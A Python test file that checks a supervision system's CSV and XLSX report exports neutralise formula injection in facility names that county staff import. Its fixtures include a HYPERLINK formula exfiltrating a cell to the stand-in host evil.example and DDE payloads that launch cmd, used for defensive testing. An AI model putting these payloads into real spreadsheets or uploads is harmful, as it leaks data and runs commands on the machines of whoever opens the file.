"""Item 4 of issue 15: names imported by county staff cannot become formulas in inspectors' spreadsheets.

The attack: a facility named ``=HYPERLINK("http://…"&B2,"详情")`` uploaded by county staff
came out verbatim in a province inspector's CSV and as a live formula cell in the XLSX.
Now (OWASP CSV injection): in CSV such text starts with a single quote; in XLSX it is a
string cell with the exact text — openpyxl finds no formula cell in the workbook. The report
is pulled through the API (in process) over the worked fortnight in a real InfluxDB.
"""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import Workbook, load_workbook

from pdcs.storage import InfluxDB
from reports.cells import FORMULA_STARTS, csv_cell, xlsx_text_only
from supervision_api.db.users import Role
from tests.reports.conftest import inventory, scenario  # noqa: F401  (the worked fortnight)
from tests.reports.test_report_api_cli import PERIOD_Q
from tests.supervision_api.access.conftest import Api, api, make_api  # noqa: F401

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
NAMES = {
    "jt-lib": HOSTILE,
    "jt-wh": "+cmd|' /C calc'!A0",
    "jt-wufeng": "-2+3+cmd|' /C calc'!A0",
    "jt-zhaozhen": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_cells() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("金堂县图书馆") == "金堂县图书馆"
    assert csv_cell(-3.5) == "-3.5" and csv_cell(None) == ""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([HOSTILE, "\t=1", 5, "ok"])
    assert ws["A1"].data_type == "f"  # what openpyxl does by itself
    xlsx_text_only(wb)
    assert [c.data_type for c in ws[1]] == ["s", "s", "n", "s"]


def test_hostile_names_in_report_exports(scenario: InfluxDB, api: Api) -> None:  # noqa: F811
    # county staff rename their facilities (the worked fortnight of tests/reports is in InfluxDB)
    staff = api.client(Role.COUNTY_STAFF, "510121", name="jt-it")
    facilities = "\n".join(
        ["id,name,kind,county"] + [f'{fid},"{name.replace(chr(34), chr(34) * 2)}",public_library,510121'
                                   for fid, name in NAMES.items()]
    )  # fmt: skip
    up = staff.post("/inventory/import", files=[("files", ("facilities.csv", facilities.encode(), "text/csv"))])
    assert up.status_code == 200, up.text
    inspector = api.client(Role.PROVINCE_INSPECTOR, "51")

    r = inspector.get(f"/regions/510121/report?format=xlsx&{PERIOD_Q}")
    assert r.status_code == 200, r.text[:300]
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HOSTILE in texts  # the name is there, exactly, as text

    r = inspector.get(f"/regions/510121/report?format=csv&{PERIOD_Q}")
    assert r.status_code == 200, r.text[:300]
    values = []
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        for name in z.namelist():
            values += [v for row in csv.reader(io.StringIO(z.read(name).decode("utf-8-sig"))) for v in row]
    assert "'" + HOSTILE in values
    assert not [v for v in values if v.startswith(FORMULA_STARTS) and not _number(v)]


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True
